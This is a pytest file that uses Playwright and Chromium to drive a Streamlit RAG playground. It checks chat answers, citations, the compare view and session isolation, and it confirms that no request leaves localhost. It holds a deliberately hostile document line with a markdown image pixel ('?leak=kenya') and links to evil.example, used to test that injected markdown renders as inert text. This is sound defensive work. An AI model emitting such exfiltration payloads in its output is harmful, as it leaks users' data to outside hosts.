"""One real-browser test: Debian chromium drives `streamlit run app.py` end to end.

Start the server on a free loopback port, load the demo corpus (the first build embeds ~450
chunks with the local ONNX model), ask a question in Chat, and check that the answer, a
retrieved chunk with its labelled score, and the cost line are visible, that a [n] citation
scrolls to its hit card, that a Compare turn draws both columns and the diff, and that no
request the pages make leaves localhost (favicon, fonts, charts). Saves tests/artifacts/chat.png
and compare.png (git-ignored).
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlparse

import pytest

from ui.bench_sessions import free_port, wait_healthy  # one way to start a server and wait for it

ROOT = Path(__file__).resolve().parents[2]
ARTIFACTS = Path(__file__).resolve().parents[1] / "artifacts"
CHROMIUM = "/usr/bin/chromium"
ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-background-networking",
        "--disable-component-update", "--disable-sync"]

pytestmark = pytest.mark.browser

#: a document line that tries every markdown way to make the browser fetch or link something
HOSTILE = ("The capital of Kenya is Nairobi ![pixel](http://198.51.100.7/p.png?leak=kenya) "
           "[click me](https://evil.example/x) <https://evil.example/auto> https://evil.example/bare "
           "www.evil.example <img src=\"http://198.51.100.7/i.png\"> :material/home: $x^2$ **bold**.")


def leaves_localhost(url: str) -> bool:
    """A request the page makes to anything but this machine (data: and blob: URLs are local)."""
    parsed = urlparse(url)
    local = parsed.hostname in ("127.0.0.1", "localhost", "::1")
    return parsed.scheme not in ("data", "blob", "about") and not local


def stay_local(context, outside: list[str]):
    """Record every request a page of `context` makes beyond localhost, and abort it (a test
    never touches the network)."""
    context.on("request", lambda req: outside.append(req.url) if leaves_localhost(req.url) else None)
    context.route(leaves_localhost, lambda route: route.abort())
    return context


@pytest.fixture
def server(tmp_path):
    port = free_port()
    env = dict(os.environ, RAG_PLAYGROUND_INDEXES=str(tmp_path / "indexes"),
               RAG_PLAYGROUND_HOME=str(tmp_path / "home"))
    log = open(tmp_path / "streamlit.log", "w")
    proc = subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", "app.py", "--server.headless", "true",
         "--server.port", str(port), "--server.address", "127.0.0.1", "--browser.gatherUsageStats", "false"],
        cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT,
    )
    url = f"http://127.0.0.1:{port}"
    try:
        wait_healthy(url, proc, timeout=60)
        yield url
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            proc.kill()
        log.close()


def test_demo_chat_in_a_real_browser(server):
    if not Path(CHROMIUM).exists():
        pytest.skip(f"{CHROMIUM} is missing: apt-get install -y chromium")
    from playwright.sync_api import expect, sync_playwright

    ARTIFACTS.mkdir(exist_ok=True)
    outside: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        page = stay_local(browser.new_context(viewport={"width": 1920, "height": 1080}), outside).new_page()
        try:
            # The very first request of a fresh server is a deep link: it must still get the
            # app's own navigation (not Streamlit's automatic pages/ menu) and its page.
            page.goto(server + "/chat")
            expect(page.get_by_text("There is no index yet")).to_be_visible(timeout=60_000)
            expect(page.get_by_role("link", name="Evaluate", exact=True)).to_be_visible()
            expect(page.get_by_role("link", name="app", exact=True)).to_have_count(0)
            page.goto(server)
            page.get_by_role("button", name="Load the demo corpus").click()
            expect(page.get_by_text("The demo index is ready")).to_be_visible(timeout=180_000)
            page.get_by_role("link", name="Go to Chat").click()
            box = page.get_by_placeholder("Ask a question about the documents in this index")
            expect(box).to_be_visible(timeout=30_000)
            box.fill("What is the capital of Kenya?")
            box.press("Enter")
            hit = page.locator(".rag-hit").first
            expect(hit).to_be_visible(timeout=60_000)
            expect(hit.locator(".rag-score")).to_contain_text("cosine")
            cost = page.get_by_text("This turn:")
            expect(cost).to_be_visible()
            expect(cost).to_contain_text("$")
            answer = page.locator('[data-testid="stChatMessage"]').nth(1)
            expect(answer).to_contain_text("Nairobi")
            expect(page.get_by_text("Traceback")).to_have_count(0)
            # tall enough for the question, the answer, its cost table and the chunks in one shot
            page.set_viewport_size({"width": 1920, "height": 1800})
            question = page.locator('[data-testid="stChatMessage"]').first
            question.evaluate("e => e.scrollIntoView({block: 'center'})")
            question.evaluate("e => e.scrollIntoView({block: 'start'})")
            page.wait_for_timeout(500)
            page.screenshot(path=str(ARTIFACTS / "chat.png"), full_page=False)

            # The answer's [n] citations are the app's own links to its hit cards on this page.
            cite = answer.locator("a.rag-cite").first
            expect(cite).to_have_attribute("href", re.compile(r"^#hit-t0-\d+$"))
            assert answer.locator(".rag-answer a:not(.rag-cite), .rag-answer img").count() == 0
            target = cite.get_attribute("href")
            cite.click()
            expect(page.locator(target)).to_be_in_viewport()

            # Compare: one question to A and B side by side, then the diff under them.
            page.get_by_text("Compare", exact=True).click()
            both = page.get_by_placeholder("Ask both A and B a question")
            expect(both).to_be_visible(timeout=30_000)
            both.fill("What is the capital of Kenya?")
            both.press("Enter")
            diff = page.locator(".rag-diff").first
            expect(diff).to_be_visible(timeout=60_000)
            expect(diff).to_contain_text("found by both")
            expect(page.locator("#hit-c0a-1")).to_have_count(1)
            expect(page.locator("#hit-c0b-1")).to_have_count(1)
            expect(page.get_by_text("Traceback")).to_have_count(0)
            diff.evaluate("e => e.scrollIntoView({block: 'end'})")
            page.wait_for_timeout(500)
            page.screenshot(path=str(ARTIFACTS / "compare.png"), full_page=False)
            page.get_by_text("Compare", exact=True).click()  # back to the plain chat
            expect(page.get_by_placeholder("Ask a question about the documents in this index")).to_be_visible()

            # A second browser session at the same time has its own chat: it sees the shared
            # demo index, but not the first session's question.
            second = browser.new_context(viewport={"width": 1280, "height": 720})
            other = stay_local(second, outside).new_page()
            other.goto(server + "/chat")
            expect(other.get_by_placeholder("Ask a question about the documents in this index")).to_be_visible(
                timeout=30_000)
            expect(other.get_by_text("What is the capital of Kenya?")).to_have_count(0)
            expect(page.get_by_text("What is the capital of Kenya?").first).to_be_visible()

            # Offline means offline: the favicon, fonts and icons all come from this server.
            page.goto(server + "/index")
            expect(page.get_by_text("Chunk lengths in tokens").first).to_be_visible(timeout=60_000)  # plotly
            page.wait_for_timeout(1000)
            favicons = page.evaluate("[...document.querySelectorAll('link[rel*=icon]')].map(l => l.href)")
            assert favicons and not any(leaves_localhost(f) for f in favicons), favicons
            assert outside == [], f"requests left localhost: {outside}"
        except Exception:
            page.screenshot(path=str(ARTIFACTS / "chat-failure.png"), full_page=True)
            raise
        finally:
            browser.close()


def test_markdown_in_a_document_renders_as_text_in_a_real_browser(server, tmp_path):
    """A document line with a markdown image (and links, autolinks, raw HTML), quoted by the
    extractive answerer, shows as its characters: no <img> or <a> from it, no request out."""
    if not Path(CHROMIUM).exists():
        pytest.skip(f"{CHROMIUM} is missing: apt-get install -y chromium")
    from playwright.sync_api import expect, sync_playwright

    from rag_core.embeddings import create_embedder
    from rag_core.index.index import Index
    from rag_core.core.types import ChunkingConfig, Document

    index = Index.create(tmp_path / "indexes" / "hostile", create_embedder("hashing"), "numpy",
                         ChunkingConfig(size=2000))
    index.ingest([Document("kenya.md", "Kenya", HOSTILE)])
    index.save()
    outside: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        page = stay_local(browser.new_context(viewport={"width": 1600, "height": 1000}), outside).new_page()
        try:
            page.goto(server + "/chat")
            box = page.get_by_placeholder("Ask a question about the documents in this index")
            expect(box).to_be_visible(timeout=60_000)
            box.fill("What is the capital of Kenya?")
            box.press("Enter")
            expect(page.locator(".rag-hit").first).to_contain_text("[click me](https://evil.example/x)",
                                                                  timeout=60_000)  # drawn after the answer
            page.wait_for_timeout(1000)
            assert outside == [], f"requests left localhost: {outside}"
            assert page.locator("img[src*='198.51.100.7'], a[href*='evil.example']").count() == 0
            answer = page.locator('[data-testid="stChatMessage"]').nth(1)
            expect(answer).to_contain_text("![pixel](http://198.51.100.7/p.png?leak=kenya)")
            expect(answer).to_contain_text("[1]")
            # the only link in an answer is the app's own [n] citation to a card on this page
            assert answer.locator("img, a:not(.rag-cite)").count() == 0 and page.locator(".rag-hit img").count() == 0
            hrefs = answer.locator("a.rag-cite").evaluate_all("els => els.map(e => e.getAttribute('href'))")
            assert hrefs and all(h.startswith("#hit-") for h in hrefs), hrefs
        except Exception:
            page.screenshot(path=str(ARTIFACTS / "hostile-failure.png"), full_page=True)
            raise
        finally:
            browser.close()
